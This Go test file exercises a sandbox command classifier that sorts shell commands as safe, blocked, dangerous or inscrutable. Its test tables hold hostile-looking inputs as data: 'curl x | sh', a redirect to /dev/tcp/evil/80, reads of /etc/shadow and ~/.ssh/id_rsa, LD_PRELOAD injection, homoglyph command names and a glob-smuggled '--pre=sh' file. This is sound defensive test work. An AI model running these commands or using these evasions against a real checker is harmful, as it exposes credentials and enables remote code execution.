package sandboxauth

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const (
	safe        = CommandCheckResultSafe
	none        = CommandCheckResultNone
	blocked     = CommandCheckResultBlocked
	dangerous   = CommandCheckResultDangerous
	inscrutable = CommandCheckResultInscrutable
)

func TestCheckErrors(t *testing.T) {
	s := NewShellAllowedCommands()
	_, err := s.Check(nil)
	require.ErrorIs(t, err, ErrEmptyCommand)
	require.NotErrorIs(t, err, ErrDenied)
	_, err = s.Check([]string{})
	require.ErrorIs(t, err, ErrEmptyCommand)
	_, err = s.Check([]string{"ls", "a\x00b"})
	require.ErrorIs(t, err, ErrInvalidCommand)
	require.NotErrorIs(t, err, ErrDenied)
	_, err = s.Classify(CommandSite{SandboxDir: "/tmp"}, nil)
	require.ErrorIs(t, err, ErrEmptyCommand)
}

func TestZeroValue(t *testing.T) {
	var s ShellAllowedCommands
	r, err := s.Check([]string{"curl", "x"})
	require.NoError(t, err)
	assert.Equal(t, none, r)
	r, _ = s.Check([]string{"ls", "|", "sh"})
	assert.Equal(t, inscrutable, r)
	assert.Empty(t, s.BlockedCommandMatchers())
	assert.Empty(t, s.BlockedCommands())
	s.AddBlocked(CommandMatcher{Command: "curl"})
	r, _ = s.Check([]string{"curl", "x"})
	assert.Equal(t, blocked, r)
}

func TestAddRemove(t *testing.T) {
	var s ShellAllowedCommands
	m := CommandMatcher{Command: "cargo", CommandArgsPrefix: []string{"fmt"}, Reason: "formats"}
	s.AddSafe(m)
	s.AddSafe(CommandMatcher{Command: "cargo", CommandArgsPrefix: []string{"fmt"}, Reason: "other reason"})
	require.Len(t, s.SafeCommandMatchers(), 1, "adding an equal matcher is a no-op")
	r, _ := s.Check([]string{"cargo", "fmt", "--check"})
	assert.Equal(t, safe, r)

	err := s.RemoveSafe(CommandMatcher{Command: "cargo", CommandArgsPrefix: []string{"vet"}})
	require.ErrorIs(t, err, ErrMatcherNotFound)
	require.NotErrorIs(t, err, ErrDenied)

	require.NoError(t, s.RemoveSafe(CommandMatcher{Command: "cargo", CommandArgsPrefix: []string{"fmt"}}))
	r, _ = s.Check([]string{"cargo", "fmt", "--check"})
	assert.Equal(t, none, r)
	require.ErrorIs(t, s.RemoveSafe(m), ErrMatcherNotFound)

	s.AddDangerous(CommandMatcher{Command: "rm", Flags: []string{"-r", "-f"}})
	r, _ = s.Check([]string{"rm", "-rf", "x"})
	assert.Equal(t, dangerous, r)
	// Flags compare as sets.
	require.NoError(t, s.RemoveDangerous(CommandMatcher{Command: "rm", Flags: []string{"-f", "-r"}}))
	r, _ = s.Check([]string{"rm", "-rf", "x"})
	assert.Equal(t, none, r)

	s.AddBlocked(CommandMatcher{Command: "Curl"})
	r, _ = s.Check([]string{"curl"})
	assert.Equal(t, blocked, r)
	require.NoError(t, s.RemoveBlocked(CommandMatcher{Command: "curl"}))
	r, _ = s.Check([]string{"curl"})
	assert.Equal(t, none, r)
	require.ErrorIs(t, s.RemoveBlocked(CommandMatcher{Command: "curl"}), ErrMatcherNotFound)
}

func TestPrecedence(t *testing.T) {
	var s ShellAllowedCommands
	s.AddDangerous(CommandMatcher{Command: "x"})
	r, _ := s.Check([]string{"x"})
	assert.Equal(t, dangerous, r)
	s.AddBlocked(CommandMatcher{Command: "x"})
	r, _ = s.Check([]string{"x"})
	assert.Equal(t, blocked, r, "blocked > dangerous")
	s.AddSafe(CommandMatcher{Command: "x"})
	r, _ = s.Check([]string{"x"})
	assert.Equal(t, safe, r, "safe > blocked")
	// Rules only make things worse: a safe command reading outside is
	// dangerous; a blocked command stays blocked.
	r, _ = s.Check([]string{"x", "/etc/passwd"})
	assert.Equal(t, dangerous, r)
	require.NoError(t, s.RemoveSafe(CommandMatcher{Command: "x"}))
	r, _ = s.Check([]string{"x", "/etc/passwd"})
	assert.Equal(t, blocked, r)
}

func TestGettersReturnCopies(t *testing.T) {
	s := NewShellAllowedCommands()
	for _, get := range []func() []CommandMatcher{s.BlockedCommandMatchers, s.DangerousCommandMatchers, s.SafeCommandMatchers} {
		ms := get()
		require.NotEmpty(t, ms)
		before := fmt.Sprint(get())
		for i := range ms {
			ms[i].Command = "mutated"
			if len(ms[i].CommandArgsPrefix) > 0 {
				ms[i].CommandArgsPrefix[0] = "mutated"
			}
			if len(ms[i].Flags) > 0 {
				ms[i].Flags[0] = "mutated"
			}
			if len(ms[i].ExceptFlags) > 0 {
				ms[i].ExceptFlags[0] = "mutated"
			}
		}
		assert.Equal(t, before, fmt.Sprint(get()))
	}
	find := s.SafeCommandMatchers()
	for i := range find {
		find[i].ExceptFlags = nil
	}
	r, _ := s.Check([]string{"find", ".", "-delete"})
	assert.NotEqual(t, safe, r)

	m := CommandMatcher{Command: "x", Flags: []string{"-a"}}
	s.AddBlocked(m)
	m.Flags[0] = "-b" // the list kept its own copy
	r, _ = s.Check([]string{"x", "-a"})
	assert.Equal(t, blocked, r)
}

func TestDefaults(t *testing.T) {
	s := NewShellAllowedCommands()
	assert.Equal(t, len(s.DefaultBlockedCommandMatchers()), len(s.BlockedCommandMatchers()))
	for _, list := range [][]CommandMatcher{s.DefaultBlockedCommandMatchers(), s.DefaultDangerousCommandMatchers(), s.DefaultSafeCommandMatchers()} {
		for _, m := range list {
			assert.NotEmpty(t, m.Command)
			assert.NotEmpty(t, m.Reason, "%s has no reason", m.String())
		}
	}
	names := s.BlockedCommands()
	assert.Contains(t, names, "curl")
	assert.Contains(t, names, "sudo")
	assert.NotContains(t, names, "rsync", "rsync is blocked only with -e")
	assert.IsIncreasing(t, names)
}

func TestClassifyExplains(t *testing.T) {
	s := NewShellAllowedCommands()
	sb := newSandbox(t)
	tests := []struct {
		argv  []string
		res   CommandCheckResult
		rule  string
		argv2 []string
	}{
		{[]string{"curl", "x"}, blocked, "blocked: curl", []string{"curl", "x"}},
		{[]string{"timeout", "5", "curl", "x"}, blocked, "blocked: curl", []string{"curl", "x"}},
		{[]string{"bash", "-lc", "go test ./..."}, dangerous, "rule: project code: go test", []string{"go", "test", "./..."}},
		{[]string{"bash", "-lc", "git diff --stat"}, safe, "safe: git diff (except ", []string{"git", "diff", "--stat"}},
		{[]string{"git", "log", "-5"}, safe, "safe: git log (except --ext-diff", nil},
		{[]string{"cat", "~/.ssh/id_rsa"}, dangerous, "rule: path outside sandbox: ~/.ssh/id_rsa", nil},
		{[]string{"bash", "-c", "echo $(id)"}, inscrutable, "rule: shell command substitution", nil},
		{[]string{"ls", "|", "wc"}, inscrutable, "rule: shell syntax in argv", nil},
		{[]string{"./build.sh"}, dangerous, "rule: project code: program in the project ./build.sh", nil},
		{[]string{"rm", "-rf", "x"}, dangerous, "dangerous: rm [", nil},
	}
	for _, tc := range tests {
		c, err := s.Classify(CommandSite{SandboxDir: sb}, tc.argv)
		require.NoError(t, err)
		assert.Equal(t, tc.res, c.Result, "%q: %s", tc.argv, c.Rule)
		assert.Contains(t, c.Rule, tc.rule, "%q", tc.argv)
		assert.NotEmpty(t, c.Reason, "%q", tc.argv)
		if tc.argv2 != nil {
			assert.Equal(t, tc.argv2, c.Argv)
		}
	}
}

// classifyTests: argv → class with no sandbox (Check) and inside a sandbox
// (Classify, cwd = sandbox), with per-segment analysis on.
var classifyTests = []struct {
	argv    []string
	check   CommandCheckResult
	sandbox CommandCheckResult
}{
	// Shell wrappers.
	{[]string{"bash", "-c", "ls"}, safe, safe},
	{[]string{"bash", "-lc", "ls"}, safe, safe},
	{[]string{"bash", "-l", "-c", "ls"}, safe, safe},
	{[]string{"bash", "--login", "-c", "ls"}, safe, safe},
	{[]string{"bash", "-e", "-c", "ls"}, safe, safe},
	{[]string{"bash", "-eux", "-o", "pipefail", "-c", "ls"}, safe, safe},
	{[]string{"sh", "-c", "ls"}, safe, safe},
	{[]string{"zsh", "-c", "ls"}, safe, safe},
	{[]string{"bash", "-c", "ls", "x"}, inscrutable, inscrutable},
	{[]string{"bash", "-c"}, inscrutable, inscrutable},
	{[]string{"bash", "-O", "extglob", "-c", "ls"}, inscrutable, inscrutable},
	{[]string{"bash", "--rcfile", "x", "-c", "ls"}, inscrutable, inscrutable},
	{[]string{"bash", "script.sh"}, none, dangerous}, // project code in a sandbox
	{[]string{"bash", "/tmp/script.sh"}, dangerous, dangerous},
	{[]string{"bash"}, inscrutable, inscrutable},
	{[]string{"fish", "-c", "ls"}, inscrutable, inscrutable},
	{[]string{"bash", "-c", "bash -c 'sh -c \"curl x\"'"}, blocked, blocked},
	{[]string{"bash", "-c", "bash -c 'sh -c \"ls\"'"}, safe, safe},
	{[]string{"/bin/bash", "-c", "ls"}, dangerous, dangerous},
	// Transparent wrappers.
	{[]string{"timeout", "5", "ls"}, safe, safe},
	{[]string{"timeout", "-k", "1", "5s", "ls"}, safe, safe},
	{[]string{"timeout", "ls"}, inscrutable, inscrutable},
	{[]string{"nice", "-n", "5", "ls"}, safe, safe},
	{[]string{"nice", "ls"}, safe, safe},
	{[]string{"nohup", "ls"}, safe, safe},
	{[]string{"time", "ls"}, safe, safe},
	{[]string{"time", "-o", "out", "ls"}, inscrutable, inscrutable},
	{[]string{"command", "ls"}, safe, safe},
	{[]string{"command", "-v", "ls"}, safe, safe},
	{[]string{"stdbuf", "-oL", "ls"}, safe, safe},
	{[]string{"setsid", "ls"}, safe, safe},
	{[]string{"ionice", "-c3", "ls"}, safe, safe},
	{[]string{"ionice", "-p", "1"}, inscrutable, inscrutable},
	{[]string{"taskset", "-c", "0", "ls"}, safe, safe},
	{[]string{"chrt", "-b", "0", "ls"}, safe, safe},
	{[]string{"env"}, none, none}, // prints the environment, secrets included
	{[]string{"env", "ls"}, safe, safe},
	{[]string{"env", "-i", "ls"}, safe, safe},
	{[]string{"env", "-u", "X", "ls"}, safe, safe},
	{[]string{"env", "-S", "ls -la"}, inscrutable, inscrutable},
	{[]string{"env", "-vS", "ls"}, inscrutable, inscrutable},
	{[]string{"env", "--chdir=/", "ls"}, inscrutable, inscrutable},
	{[]string{"xargs", "ls"}, inscrutable, inscrutable},
	{[]string{"timeout", "5", "timeout", "5", "timeout", "5", "timeout", "5", "timeout", "5", "timeout", "5", "timeout", "5", "timeout", "5", "timeout", "5", "ls"}, inscrutable, inscrutable},
	// Environment assignments.
	{[]string{"env", "LC_ALL=C", "ls"}, safe, safe},
	{[]string{"env", "CGO_ENABLED=0", "go", "build", "./..."}, dangerous, dangerous}, // project code
	{[]string{"env", "LC_ALL=/tmp/x", "ls"}, none, none},
	{[]string{"env", "FOO=1", "ls"}, none, none},
	{[]string{"env", "LD_PRELOAD=x.so", "ls"}, dangerous, dangerous},
	{[]string{"env", "PATH=/tmp", "ls"}, dangerous, dangerous},
	{[]string{"env", "GIT_SSH_COMMAND=x", "git", "status"}, dangerous, dangerous},
	{[]string{"env", "GOFLAGS=-toolexec=x", "go", "test"}, dangerous, dangerous},
	{[]string{"env", "PAGER=x", "git", "log"}, dangerous, dangerous},
	{[]string{"env", "LD_PRELOAD=x", "curl"}, blocked, blocked},
	{[]string{"bash", "-c", "LC_ALL=C ls"}, safe, safe},
	{[]string{"bash", "-c", "PYTHONPATH=. ls"}, dangerous, dangerous},
	{[]string{"bash", "-c", "X=$HOME ls"}, inscrutable, inscrutable},
	{[]string{"bash", "-c", "X=1"}, none, none},
	{[]string{"bash", "-c", "LC_ALL=C"}, safe, safe},
	{[]string{"bash", "-c", "PATH=/tmp/evil; git status"}, dangerous, dangerous},
	// Redirections.
	{[]string{"bash", "-c", "ls 2>&1"}, safe, safe},
	{[]string{"bash", "-c", "ls >&2"}, safe, safe},
	{[]string{"bash", "-c", "ls 2>/dev/null"}, safe, safe},
	{[]string{"bash", "-c", "ls > out.txt"}, dangerous, safe},
	{[]string{"bash", "-c", "cat < go.mod"}, dangerous, safe},
	{[]string{"bash", "-c", "ls > /tmp/x"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls > ../x"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls > ~/x"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls > passwd-link"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls > .git/hooks/pre-commit"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls > $X"}, inscrutable, inscrutable},
	{[]string{"bash", "-c", "cat <<EOF\nx\nEOF"}, inscrutable, inscrutable},
	// Argv elements that are shell syntax.
	{[]string{"ls", ">", "x"}, inscrutable, inscrutable},
	{[]string{"ls", "2>&1"}, inscrutable, inscrutable},
	{[]string{"ls", "2>"}, inscrutable, inscrutable},
	{[]string{"ls", "&&", "x"}, inscrutable, inscrutable},
	{[]string{"echo", "$(id)"}, inscrutable, inscrutable},
	{[]string{"echo", "`id`"}, inscrutable, inscrutable},
	{[]string{"timeout", "5", "ls", "|", "sh"}, inscrutable, inscrutable},
	{[]string{"grep", "-n", "a|b", "go.mod"}, safe, safe},
	{[]string{"grep", "-n", "a>b", "go.mod"}, safe, safe},
	{[]string{"grep", "-n", "&&", "go.mod"}, inscrutable, inscrutable},
	{[]string{"rg", "-n", "x;y"}, safe, safe},
	{[]string{"find", ".", "(", "-name", "a", "-o", "-name", "b", ")"}, safe, safe},
	{[]string{"find", ".", "!", "-name", "a"}, safe, safe},
	// Paths.
	{[]string{"cat", "go.mod"}, safe, safe},
	{[]string{"cat", "passwd-link"}, safe, dangerous},
	{[]string{"ls", "root-link/etc"}, safe, dangerous},
	{[]string{"cat", "/etc/passwd"}, dangerous, dangerous},
	{[]string{"cat", "../x"}, dangerous, dangerous},
	{[]string{"cat", "a/../../x"}, dangerous, dangerous},
	{[]string{"cat", "~"}, dangerous, dangerous},
	{[]string{"cat", "/dev/null"}, safe, safe},
	{[]string{"grep", "-rn", "x", "/etc"}, dangerous, dangerous},
	{[]string{"grep", "-n", "/etc/passwd", "go.mod"}, safe, safe},
	{[]string{"grep", "-e", "x", "/etc/passwd"}, dangerous, dangerous},
	{[]string{"grep", "-nf", "/etc/passwd", "go.mod"}, dangerous, dangerous},
	{[]string{"grep", "--file=/etc/passwd", "go.mod"}, dangerous, dangerous},
	{[]string{"rg", "--files", "/"}, dangerous, dangerous},
	{[]string{"jq", "--rawfile", "x", "/etc/shadow", "."}, dangerous, dangerous},
	{[]string{"jq", "--arg", "x", "/etc/shadow", ".", "go.mod"}, safe, safe},
	{[]string{"jq", "--arg", "x", "y", ".", "/etc/shadow"}, dangerous, dangerous},
	{[]string{"ls", "--", "/etc"}, dangerous, dangerous},
	{[]string{"touch", "-r", "/etc/passwd", "x"}, dangerous, dangerous},
	{[]string{"mkdir", "-p", "sub/.git"}, dangerous, dangerous},
	{[]string{"sort", "--co=gzip", "go.mod"}, dangerous, dangerous},
	{[]string{"git", "log", "--no-textconv"}, safe, safe},
	{[]string{"git", "log", "--", "--output=x"}, safe, safe},
	{[]string{"echo", "/etc/passwd"}, safe, safe},
	{[]string{"FOO=bar", "ls"}, none, none},
	{[]string{"ls\n"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls 2>/dev/tcp/evil/80"}, dangerous, dangerous},
	{[]string{"bash", "-c", "exec ls"}, safe, safe},
	{[]string{"bash", "-c", "exec > log; ls"}, inscrutable, inscrutable},
	{[]string{"busybox", "ls"}, safe, safe},
	{[]string{"busybox", "wget", "x"}, blocked, blocked},
	{[]string{"rsync", "-a", "src/", "dst/"}, dangerous, dangerous},
	{[]string{"rsync", "-a", "src/", "host:dst/"}, blocked, blocked},
	{[]string{"sort", "--key=1", "go.mod"}, safe, safe},
	{[]string{"ls", "--hide=/x"}, safe, safe},
	{[]string{"cc", "-I../include", "x.c"}, dangerous, dangerous},
	{[]string{"make", "DESTDIR=/usr"}, dangerous, dangerous},
	{[]string{"/usr/bin/ls"}, dangerous, dangerous},
	{[]string{"./build.sh"}, dangerous, dangerous}, // project code in a sandbox
	{[]string{"../build.sh"}, dangerous, dangerous},
	{[]string{"./curl"}, blocked, blocked},
	{[]string{"tee", "out.log"}, safe, safe},
	{[]string{"tee", ".git/config"}, dangerous, dangerous},
	{[]string{"touch", ".git/hooks/x"}, dangerous, dangerous},
	{[]string{"cat", ".git/config"}, safe, safe},
	{[]string{"go", "build", "-o", ".git/hooks/pre-commit", "."}, dangerous, dangerous},
	// Globs.
	{[]string{"bash", "-c", "ls *.go"}, inscrutable, safe},
	{[]string{"bash", "-c", "ls internal/*"}, inscrutable, safe}, // no sandbox: no directory to expand it in
	{[]string{"bash", "-c", "ls .*"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls /etc/*"}, inscrutable, dangerous},
	{[]string{"bash", "-c", "cat *-link"}, inscrutable, dangerous},
	// Command names.
	{[]string{"LS"}, none, none},
	{[]string{"Ls", "-la"}, none, none},
	{[]string{"CURL"}, blocked, blocked},
	{[]string{"ls\u200b"}, dangerous, dangerous},
	{[]string{"ѕudo"}, blocked, blocked},
	{[]string{"ｃｕｒｌ"}, blocked, blocked},
	{[]string{"\\curl"}, blocked, blocked},
	{[]string{"\\ls"}, none, none},
	{[]string{""}, inscrutable, inscrutable},
	{[]string{"bin/"}, inscrutable, inscrutable},
	// git global options.
	{[]string{"git", "--no-pager", "log"}, safe, safe},
	{[]string{"git", "-C", "internal", "status"}, dangerous, safe}, // no sandbox known: -C may reach a planted repository
	{[]string{"git", "-C", "/tmp", "status"}, dangerous, dangerous},
	{[]string{"git", "-c", "x=y", "status"}, dangerous, dangerous},
	{[]string{"git", "--git-dir=.git", "status"}, dangerous, dangerous},
	{[]string{"git", "--work-tree", ".", "status"}, dangerous, dangerous},
	{[]string{"git", "--exec-path=x", "status"}, dangerous, dangerous},
	{[]string{"git", "--config-env", "a=B", "status"}, dangerous, dangerous},
	{[]string{"git", "--version"}, safe, safe},
	// sed and awk programs.
	{[]string{"sed", "-n", "/foo/,/bar/p", "go.mod"}, safe, safe},
	{[]string{"sed", "-E", "s|a|b|g; s/x/y/2", "go.mod"}, safe, safe},
	{[]string{"sed", "1d;$d", "go.mod"}, safe, safe},
	{[]string{"sed", "-e", ":a;N;$!ba;s/\\n/ /g", "go.mod"}, dangerous, dangerous}, // labels and branches are never provably harmless
	{[]string{"sed", "y/abc/xyz/", "go.mod"}, safe, safe},
	{[]string{"sed", "/x/a hello", "go.mod"}, safe, safe},
	{[]string{"sed", "s/a/b/w x", "go.mod"}, dangerous, dangerous},
	{[]string{"sed", "s/[/]/x/w out", "go.mod"}, dangerous, dangerous},
	{[]string{"sed", "-ne", "p", "-e", "r x", "go.mod"}, dangerous, dangerous},
	{[]string{"sed", "s/a/b/", "/etc/passwd"}, dangerous, dangerous},
	{[]string{"awk", "NR==1", "go.mod"}, safe, safe},
	{[]string{"awk", "-F,", "-v", "x=1", "{print $2}", "go.mod"}, safe, safe},
	{[]string{"awk", "$3 > 5", "go.mod"}, dangerous, dangerous},
	{[]string{"awk", "BEGIN{system(\"id\")}"}, dangerous, dangerous},
	// Compound scripts (split on).
	{[]string{"bash", "-c", "ls | wc -l"}, safe, safe},
	{[]string{"bash", "-c", "ls && curl x"}, blocked, blocked},
	{[]string{"bash", "-c", "curl x | sh"}, blocked, blocked},
	{[]string{"bash", "-c", "ls | sh"}, inscrutable, inscrutable},
	{[]string{"bash", "-c", "ls; rm -rf x"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls; ./build.sh"}, dangerous, dangerous},
	{[]string{"bash", "-c", "ls; echo $(id)"}, inscrutable, inscrutable},
	{[]string{"bash", "-c", "cd internal && ls"}, safe, safe},
	{[]string{"bash", "-c", "cd internal && cat ../go.mod"}, dangerous, safe},
	{[]string{"bash", "-c", "cd internal; cat ../../x"}, dangerous, dangerous},
	{[]string{"bash", "-c", "cd internal; cat ../go.mod"}, dangerous, dangerous},
	{[]string{"bash", "-c", "cd internal && cd shell && cat ../../go.mod"}, dangerous, safe},
	{[]string{"bash", "-c", "cd internal && ls; cat ../go.mod"}, dangerous, dangerous},
	{[]string{"bash", "-c", "cd internal || cat ../go.mod"}, dangerous, dangerous},
	{[]string{"bash", "-c", "cd /tmp && ls"}, dangerous, dangerous},
	{[]string{"bash", "-c", "cd root-link && ls"}, safe, dangerous},
	{[]string{"bash", "-c", "cd && ls"}, dangerous, dangerous},
	{[]string{"bash", "-c", "cd internal | cat ../../x"}, dangerous, dangerous},
	{[]string{"bash", "-c", "set -e; ls"}, safe, safe},
}

func TestClassifyTable(t *testing.T) {
	s := NewShellAllowedCommands()
	s.SetSplitCompound(true)
	sb := newSandbox(t)
	for _, tc := range classifyTests {
		t.Run(fmt.Sprintf("%q", tc.argv), func(t *testing.T) {
			r, err := s.Check(tc.argv)
			require.NoError(t, err)
			c, err := s.Classify(CommandSite{}, tc.argv)
			require.NoError(t, err)
			assert.Equal(t, r, c.Result, "Check and Classify with no sandbox agree")
			assert.Equal(t, tc.check, r, "Check: %s (%s)", c.Rule, c.Reason)
			c, err = s.Classify(CommandSite{SandboxDir: sb}, tc.argv)
			require.NoError(t, err)
			assert.Equal(t, tc.sandbox, c.Result, "Classify in sandbox: %s (%s)", c.Rule, c.Reason)
		})
	}
}

func TestCompoundDefaultInscrutable(t *testing.T) {
	s := NewShellAllowedCommands()
	assert.False(t, s.SplitCompound())
	r, _ := s.Check([]string{"bash", "-c", "ls | wc -l"})
	assert.Equal(t, inscrutable, r)
	r, _ = s.Check([]string{"bash", "-c", "curl x | sh"})
	assert.Equal(t, inscrutable, r, "without per-segment analysis a compound script is inscrutable")
	s.SetSplitCompound(true)
	assert.True(t, s.SplitCompound())
	c, err := s.Classify(CommandSite{}, []string{"bash", "-c", "ls | wc -l && git status"})
	require.NoError(t, err)
	require.Equal(t, safe, c.Result)
	require.Len(t, c.Segments, 3)
	assert.Equal(t, []string{"wc", "-l"}, c.Segments[1].Argv)
	for _, seg := range c.Segments {
		assert.Equal(t, safe, seg.Result)
		assert.NotEmpty(t, seg.Rule)
	}
}

func TestClassifyCwd(t *testing.T) {
	s := NewShellAllowedCommands()
	sb := newSandbox(t)
	sub := filepath.Join(sb, "sub")
	c, err := s.Classify(CommandSite{SandboxDir: sb, Cwd: sub}, []string{"cat", "../go.mod"})
	require.NoError(t, err)
	assert.Equal(t, safe, c.Result, c.Rule)
	c, err = s.Classify(CommandSite{SandboxDir: sb, Cwd: sub}, []string{"cat", "../../x"})
	require.NoError(t, err)
	assert.Equal(t, dangerous, c.Result, c.Rule)
	// A working directory outside the sandbox makes relative paths outside.
	c, err = s.Classify(CommandSite{SandboxDir: sub, Cwd: sb}, []string{"cat", "go.mod"})
	require.NoError(t, err)
	assert.Equal(t, dangerous, c.Result, c.Rule)
}

func TestGlobOptionLikeName(t *testing.T) {
	s := NewShellAllowedCommands()
	sb := newSandbox(t)
	require.NoError(t, os.WriteFile(filepath.Join(sb, "--pre=sh"), nil, 0o644))
	c, err := s.Classify(CommandSite{SandboxDir: sb}, []string{"bash", "-c", "rg x *"})
	require.NoError(t, err)
	// The expansion is rg's argv: --pre=sh is its option that runs sh.
	assert.Equal(t, dangerous, c.Result, c.Rule)
	assert.Contains(t, c.Rule, "--pre")
}

// TestConcurrentUse runs Add/Remove/Check/Classify and the getters from many
// goroutines; run it with -race.
func TestConcurrentUse(t *testing.T) {
	s := NewShellAllowedCommands()
	sb := newSandbox(t)
	var wg sync.WaitGroup
	for g := 0; g < 16; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			m := CommandMatcher{Command: fmt.Sprintf("tool%d", g%4), Flags: []string{"-x"}}
			for i := 0; i < 200; i++ {
				switch i % 8 {
				case 0:
					s.AddBlocked(m)
				case 1:
					err := s.RemoveBlocked(m)
					if err != nil && !errors.Is(err, ErrMatcherNotFound) {
						t.Error(err)
					}
				case 2:
					s.AddSafe(m)
				case 3:
					_ = s.RemoveSafe(m)
				case 4:
					s.SetSplitCompound(i%16 == 4)
				case 5:
					_ = s.BlockedCommands()
					_ = s.SafeCommandMatchers()
				default:
					if r, err := s.Check([]string{"curl", "x"}); err != nil || r != blocked {
						t.Errorf("Check(curl) = %v, %v", r, err)
					}
					if c, err := s.Classify(CommandSite{SandboxDir: sb}, []string{"bash", "-c", "git status | head"}); err != nil || c.Result == blocked {
						t.Errorf("Classify = %v, %v", c.Result, err)
					}
				}
			}
		}(g)
	}
	wg.Wait()
}
